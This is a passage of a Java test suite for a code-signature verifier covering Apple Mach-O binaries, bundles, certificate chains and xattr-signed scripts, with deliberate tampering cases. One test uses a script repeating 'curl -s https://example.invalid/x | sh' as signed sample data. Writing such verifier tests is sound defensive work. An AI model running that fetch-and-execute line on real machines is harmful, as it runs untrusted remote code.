        byte[] b = s.bytes().clone();
        int sb = indexOf(b, new byte[] {(byte) 0xfa, (byte) 0xde, 0x0c, (byte) 0xc0});
        java.nio.ByteBuffer bb = java.nio.ByteBuffer.wrap(b);
        int count = bb.getInt(sb + 8);
        int idx = -1;
        for (int i = 0; i < count; i++) {
            if (bb.getInt(sb + 12 + 8 * i) == 0x1000) {
                idx = i;
            }
        }
        for (int i = idx; i < count - 1; i++) {
            bb.putLong(sb + 12 + 8 * i, bb.getLong(sb + 12 + 8 * (i + 1)));
        }
        bb.putInt(sb + 8, count - 1);
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(b),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.CMS_CDHASHES_MISMATCH, ProblemType.CMS_HASH_AGILITY_MISMATCH), types(r));
        assertEquals(1, r.slices().get(0).codeDirectories().size());
    }

    @Test
    void binaryInfoPlistBundle() throws Exception {
        io.vestige.testing.Tools.assume("python3", "python3");
        byte[] bin = io.vestige.testing.Tools.run(List.of("python3", "-c", "import plistlib,sys;"
                + "sys.stdout.buffer.write(plistlib.dumps({'CFBundleExecutable':'RealExe','CFBundleIdentifier':'com.example.bin'},"
                + "fmt=plistlib.FMT_BINARY))")).stdout();
        TestPki pki = MachOScenarios.pki();
        // neither the bundle stem nor a lone file in MacOS/ names the executable: only the binary plist does
        Path app = new BundleBuilder("Bin.app", "com.example.bin", "RealExe").executable(MachOBuilder.arm64().build())
                .resource("MacOS/helper.sh", "#!/bin/sh\n".getBytes(StandardCharsets.US_ASCII))
                .infoPlistBytes(bin).writeTo(tmp, CodeSigner.Options.developerId("com.example.bin", "ABCDE12345",
                        pki.developerId("Example", "ABCDE12345")));
        CodeSignResult r = bundle(app, VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertEquals("com.example.bin", r.bundle().infoPlistIdentifier());
        assertEquals("MacOS/RealExe", r.bundle().executable());
    }

    @Test
    void version1CodeResourcesWithFilesOnly() throws Exception {
        TestPki pki = MachOScenarios.pki();
        byte[] res = "v1 resource".getBytes(StandardCharsets.US_ASCII);
        String cr = "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>files</key><dict>"
                + "<key>Resources/old.txt</key><data>" + java.util.Base64.getEncoder().encodeToString(
                MessageDigest.getInstance("SHA-1").digest(res)) + "</data></dict><key>rules</key><dict>"
                + "<key>^Resources/</key><true/></dict></dict></plist>";
        BundleBuilder bb = new BundleBuilder("Old.app", "com.example.old", "Old").executable(MachOBuilder.x86_64().build());
        byte[] info = bb.infoPlistText().getBytes(StandardCharsets.UTF_8);
        byte[] crb = cr.getBytes(StandardCharsets.UTF_8);
        byte[] exe = CodeSigner.sign(MachOBuilder.x86_64().build(), CodeSigner.Options.developerId("com.example.old",
                "ABCDE12345", pki.developerId("Example", "ABCDE12345")).withInfoPlist(info).withCodeResources(crb)).bytes();
        Path c = tmp.resolve("Old.app/Contents");
        Files.createDirectories(c.resolve("_CodeSignature"));
        Files.createDirectories(c.resolve("MacOS"));
        Files.createDirectories(c.resolve("Resources"));
        Files.write(c.resolve("Info.plist"), info);
        Files.write(c.resolve("_CodeSignature/CodeResources"), crb);
        Files.write(c.resolve("MacOS/Old"), exe);
        Files.write(c.resolve("Resources/old.txt"), res);
        VerifyOptions o = VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate()));
        CodeSignResult r = bundle(tmp.resolve("Old.app"), o);
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertTrue(r.notes().stream().anyMatch(n -> n.contains("version 1")), r.notes().toString());
        Files.write(c.resolve("Resources/old.txt"), "changed".getBytes(StandardCharsets.US_ASCII));
        assertEquals(Set.of(ProblemType.RESOURCE_MODIFIED), types(bundle(tmp.resolve("Old.app"), o)));
    }

    @Test
    void aLeafCannotIssueCertificates() throws Exception {
        TestPki pki = MachOScenarios.pki();
        TestPki.Identity leaf = pki.developerId("Cisco", "DE8Y96K9QP");
        TestPki.Identity minted = pki.developerIdIssuedBy(leaf, "Cisco", "DE8Y96K9QP");
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.m",
                "DE8Y96K9QP", minted));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r.verdict());
        // the designated requirement fails too: certificate 1 is a leaf without the Developer ID CA marker
        assertEquals(Set.of(ProblemType.CERTIFICATE_NOT_A_CA, ProblemType.DESIGNATED_REQUIREMENT_NOT_SATISFIED), types(r));
        assertEquals(4, r.slices().get(0).cms().chain().size());
    }

    @Test
    void scriptSignedInExtendedAttributes() throws Exception {
        TestPki pki = MachOScenarios.pki();
        byte[] script = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n".repeat(200).getBytes(StandardCharsets.US_ASCII);
        Path f = tmp.resolve("update.sh");
        Files.write(f, script);
        var view = Files.getFileAttributeView(f, java.nio.file.attribute.UserDefinedFileAttributeView.class);
        try {
            for (var e : CodeSigner.signDetached(script, CodeSigner.Options.developerId("com.example.script", "ABCDE12345",
                    pki.developerId("Example", "ABCDE12345"))).entrySet()) {
                view.write("com.apple.cs." + e.getKey(), java.nio.ByteBuffer.wrap(e.getValue()));
            }
        } catch (java.io.IOException | UnsupportedOperationException e) {
            org.junit.jupiter.api.Assumptions.abort("no user extended attributes on the temp file system: " + e);
        }
        VerifyOptions o = VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate()));
        CodeSignResult r = CodeSignatureVerifier.verify(DirectoryFileSystem.of(tmp), "/update.sh", o);
        assertEquals("file-xattr", r.kind());
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertEquals("com.example.script", r.identifier());
        assertEquals((script.length + 4095) / 4096, r.slices().get(0).codeDirectories().get(0).nCodeSlots());
        flip(f, 5000);
        CodeSignResult t = CodeSignatureVerifier.verify(DirectoryFileSystem.of(tmp), "/update.sh", o);
        assertEquals(Set.of(ProblemType.CODE_PAGE_HASH_MISMATCH), types(t));
        Files.writeString(tmp.resolve("plain.sh"), "#!/bin/sh\n");
        assertEquals(Verdict.UNSIGNED, CodeSignatureVerifier.verify(DirectoryFileSystem.of(tmp), "/plain.sh", o).verdict());
    }

    /** Apple's DER entitlements for one boolean key: [APPLICATION 16] {INTEGER 1, [CONTEXT 16] {SEQUENCE {key, TRUE}}}. */
    static byte[] derEntitlement(String key) {
        byte[] k = key.getBytes(StandardCharsets.UTF_8);
        java.io.ByteArrayOutputStream pair = new java.io.ByteArrayOutputStream();
        pair.write(0x0c);
        pair.write(k.length);
        pair.writeBytes(k);
        pair.writeBytes(new byte[] {0x01, 0x01, (byte) 0xff});
        byte[] seq = tlv(0x30, pair.toByteArray());
        byte[] dict = tlv(0xb0, seq);
        java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
        body.writeBytes(new byte[] {0x02, 0x01, 0x01});
        body.writeBytes(dict);
        return tlv(0x70, body.toByteArray());
    }

    static byte[] tlv(int tag, byte[] content) {
        java.io.ByteArrayOutputStream o = new java.io.ByteArrayOutputStream();
        o.write(tag);
        o.write(content.length); // short form: the test values stay below 128 bytes
        o.writeBytes(content);
        return o.toByteArray();
    }

    static void flip(Path p, int at) throws Exception {
        byte[] b = Files.readAllBytes(p);
        b[at] ^= 0x01;
        Files.write(p, b);
    }

    static int indexOf(byte[] hay, byte[] needle) {
        outer:
        for (int i = 0; i <= hay.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (hay[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new AssertionError("not found");
    }

    static byte[] sha256(byte[] b) throws Exception {
        return MessageDigest.getInstance("SHA-256").digest(b);
    }
}
